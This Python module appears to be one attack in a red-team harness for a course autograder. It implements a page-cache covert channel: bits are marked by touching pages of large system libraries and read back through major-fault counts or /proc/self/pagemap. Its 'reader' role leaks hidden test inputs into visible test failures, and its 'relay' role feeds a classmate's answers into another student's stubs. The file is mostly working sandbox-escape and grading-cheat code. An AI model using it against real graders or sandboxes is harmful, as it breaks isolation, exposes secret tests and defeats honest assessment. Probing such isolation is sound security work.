"""Attack (rag4): the page cache as a message board between workers, which outlives them. A worker marks a
bit by reading one page of a big system file every worker may read (a page then stays cached); a later
worker tells a marked page from a cold one by the major page faults reading it costs (getrusage), or,
without reading it, by fault-around: reading a neighbour maps the cached pages around it, which
/proc/self/pagemap shows present. What is read is the same for every worker, in every sandbox, and for
every student graded on the machine, so:

- reader: the hidden tests' worker writes the first inputs it is called with; the public tests' worker,
  started later, reads them back and fails with them, so that a visible row shows hidden inputs;
- relay: a classmate's working lab writes each answer under its call; a student's stubs read it back.

The region used is chosen by the run's token, in the biggest file of a few that nothing else reads."""

import glob
import hashlib
import json
import mmap
import os
import struct

from kit import SETTINGS, TOKEN, fail_with, lab_name, quietly, stubs

PAGE = mmap.PAGESIZE
FILES = ("/usr/lib/*/libLLVM*.so*", "/usr/lib/*/*.a", "/usr/lib/*/libicudata.so*")  # big, and read by nothing else here
GENERATIONS = 4  # workers that take turns: each reads what the one before it wrote
SLOT_BYTES = 24  # bytes of one recorded input
SLOTS = 3  # inputs recorded per generation
RELAY_SLOTS, RELAY_BYTES = 16, 40  # answers the relay carries, and bytes per answer (length, checksum, JSON)
READER_BITS = GENERATIONS + GENERATIONS * SLOTS * SLOT_BYTES * 8
RELAY_BITS = RELAY_SLOTS * RELAY_BYTES * 8


def pages_for(bits: int) -> int:
    """The pages a board of `bits` bits spans (what the harness looks for, cold: attacks.cold_region)."""
    return 4 * (bits // 3 + 2)


class Region:
    """Pages [first, first + count) of one file, mapped, with no read-ahead: a read caches its own page only."""

    def __init__(self, path: str, first: int, count: int):
        self.path, self.first, self.count = path, first, count
        fd = os.open(path, os.O_RDONLY)
        self.area = mmap.mmap(fd, count * PAGE, mmap.MAP_SHARED, mmap.PROT_READ, offset=first * PAGE)
        os.close(fd)
        self.area.madvise(mmap.MADV_RANDOM)

    def touch(self, page: int) -> None:
        self.area[page * PAGE]

    def present(self) -> list:
        """Which of its pages are mapped, by /proc/self/pagemap."""
        address = None
        with open("/proc/self/maps") as maps:  # a read-only map has no buffer to point at
            for line in maps:
                span, _, offset = line.split()[:3]
                low, high = (int(part, 16) for part in span.split("-"))
                if int(offset, 16) == self.first * PAGE and high - low == self.count * PAGE and \
                        line.rstrip().endswith(os.path.realpath(self.path)):
                    address = low
        if address is None:
            raise OSError("the region is not in /proc/self/maps")
        with open("/proc/self/pagemap", "rb") as pagemap:
            pagemap.seek(address // PAGE * 8)
            entries = struct.unpack(f"={self.count}Q", pagemap.read(8 * self.count))
        return [bool(entry >> 63 & 1) for entry in entries]


class Board:
    """Bits in the page cache of big files: bit i is page 4 (i // 3) + 1 + i % 3 of the board's pages, its
    regions end to end; the pages in between (4 k) are the ones read to make the kernel map their neighbours
    (fault-around). The harness names cold regions (attacks.cold_boards); else one is guessed."""

    def __init__(self, name: str, bits: int):
        pages = pages_for(bits)
        named = SETTINGS.get("boards", {}).get(name) or [self.guess(name, pages)]
        self.regions = [Region(*segment) for segment in named]
        self.where = [(region, page) for region in self.regions for page in range(region.count)][:pages]
        if len(self.where) < pages:
            raise OSError(f"the board {name} has {len(self.where)} pages, not {pages}")
        self.pages = pages

    @staticmethod
    def guess(name: str, pages: int) -> tuple:
        """A region of the biggest of FILES, chosen by the token, where the harness named none."""
        path = max((p for pattern in FILES for p in glob.glob(pattern) if os.access(p, os.R_OK)),
                   key=os.path.getsize)
        spare = max(1, os.path.getsize(path) // PAGE - pages - 16)
        seed = int.from_bytes(hashlib.sha256(f"{TOKEN}/{name}".encode()).digest()[:8], "big")
        return path, (seed % spare) // 16 * 16, pages  # a 16-page boundary: fault-around maps 16 at a time

    @staticmethod
    def page_of(bit: int) -> int:
        return 4 * (bit // 3) + 1 + bit % 3

    def mark(self, bit: int) -> None:
        region, page = self.where[self.page_of(bit)]
        region.touch(page)

    def faults(self) -> int:
        import resource

        return resource.getrusage(resource.RUSAGE_SELF).ru_majflt

    def read_by_faults(self, bits: range) -> list:
        """Each bit: was its page cached? (Reading it costs no major fault.) Reading caches it."""
        seen = []
        for bit in bits:
            before = self.faults()
            self.mark(bit)
            seen.append(self.faults() == before)
        return seen

    def read_by_pagemap(self, bits: range) -> list:
        """Each bit: was its page cached? Read the pages between (fault-around maps the cached neighbours),
        then ask /proc/self/pagemap which pages are present. The bits' own pages are never read."""
        pages = {self.page_of(bit) for bit in bits}
        for trigger in sorted({page - page % 4 for page in pages}):
            region, page = self.where[trigger]
            region.touch(page)
        present = {id(region): region.present() for region in self.regions}
        return [present[id(self.where[self.page_of(bit)][0])][self.where[self.page_of(bit)][1]] for bit in bits]

    def read(self, bits: range) -> tuple:
        """(how, bits) by the first means that works; (why not, None) when none does."""
        failures = []
        for how in (self.read_by_pagemap, self.read_by_faults):
            try:
                return how.__name__, how(bits)
            except Exception as error:
                failures.append(f"{how.__name__}: {type(error).__name__} {error}")
        return "; ".join(failures), None

    def write(self, first: int, data: bytes) -> None:
        for index, byte in enumerate(data):
            for place in range(8):
                if byte >> place & 1:
                    self.mark(first + 8 * index + place)


def as_bytes(bits: list) -> bytes:
    return bytes(sum(bit << place for place, bit in enumerate(bits[start:start + 8]))
                 for start in range(0, len(bits), 8))


# ---- the reader: hidden inputs into a public test's failure -------------------------------------------


def claim_generation(board: Board) -> int:
    """This worker's turn: the first generation page still cold (marked as it is looked at)."""
    for generation in range(GENERATIONS):
        how, seen = board.read(range(generation, generation + 1))
        board.mark(generation)
        if not seen or not seen[0]:
            return generation
    return GENERATIONS


def reader(lab: dict) -> None:
    bits = READER_BITS
    state = {}

    def message(function, args):
        if not state:
            board = Board("reader", bits)
            state.update(board=board, generation=claim_generation(board), recorded=0, heard=[])
            if state["generation"] > 0:
                first = GENERATIONS + (state["generation"] - 1) * SLOTS * SLOT_BYTES * 8
                how, seen = board.read(range(first, first + SLOTS * SLOT_BYTES * 8))
                data = as_bytes(seen) if seen is not None else b""
                state["heard"] = [data[i:i + SLOT_BYTES].rstrip(b"\0").decode(errors="replace")
                                  for i in range(0, len(data), SLOT_BYTES)] or [how]
        board = state["board"]
        if state["generation"] < GENERATIONS and state["recorded"] < SLOTS and args:
            first = GENERATIONS + state["generation"] * SLOTS * SLOT_BYTES * 8 + state["recorded"] * SLOT_BYTES * 8
            board.write(first, repr(args[0]).encode()[:SLOT_BYTES])
            state["recorded"] += 1
        return "redteam-leak: " + " | ".join(state["heard"])

    fail_with(lab, message)


# ---- the relay: a classmate's answers into a student's stubs --------------------------------------------


def key_of(function: str, args: tuple) -> int:
    return int.from_bytes(hashlib.sha256(f"{function}{args!r}".encode()).digest()[:4], "big") % RELAY_SLOTS


def packed(value) -> bytes:
    """An answer as length, checksum and JSON: chunks as their spans, anything else as JSON if it can be."""
    if isinstance(value, list) and all(hasattr(item, "start") for item in value):
        value = {"spans": [[item.start, item.end] for item in value]}
    text = json.dumps(value, separators=(",", ":")).encode()
    body = text[:RELAY_BYTES - 3]
    return bytes([len(body)]) + hashlib.sha256(body).digest()[:2] + body


def unpacked(data: bytes):
    body = data[3:3 + data[0]] if data else b""
    if not data or len(body) != data[0] or hashlib.sha256(body).digest()[:2] != data[1:3]:
        return None
    return quietly(json.loads, body)


def sender(lab: dict) -> None:
    """Working code that also writes each answer under its call."""
    board = Board("relay", RELAY_BITS)
    sent = set()
    for name in [key for key, value in list(lab.items()) if callable(value) and key in ("word_windows",
                                                                                      "token_windows")]:
        def publishing(*args, _function=lab[name], _name=name, **kwargs):
            value = _function(*args, **kwargs)
            slot = key_of(_name, args)
            if slot not in sent:
                sent.add(slot)
                quietly(board.write, slot * RELAY_BYTES * 8, packed(value))
            return value

        lab[name] = publishing


def receiver(lab: dict) -> None:
    """Stubs that answer with what the classmate wrote, when it reads back whole."""
    import academy_llm

    state = {}
    for name in stubs(lab):
        def answering(*args, _name=name, **kwargs):
            board = state.setdefault("board", Board("relay", RELAY_BITS))
            slot = key_of(_name, args)
            if slot not in state:
                first = slot * RELAY_BYTES * 8
                how, seen = board.read(range(first, first + RELAY_BYTES * 8))
                state[slot] = unpacked(as_bytes(seen)) if seen is not None else None
                state.setdefault("how", how)
            answer = state[slot]
            if isinstance(answer, dict) and "spans" in answer:
                text = args[0]
                return [academy_llm.make_chunk(text, start, end) for start, end in answer["spans"]]
            raise NotImplementedError(f"TODO({lab_name(lab)}) nothing heard ({state.get('how')})")

        lab[name] = answering


def attack(lab: dict) -> None:
    {"reader": reader, "sender": sender, "receiver": receiver}[SETTINGS.get("role", "reader")](lab)
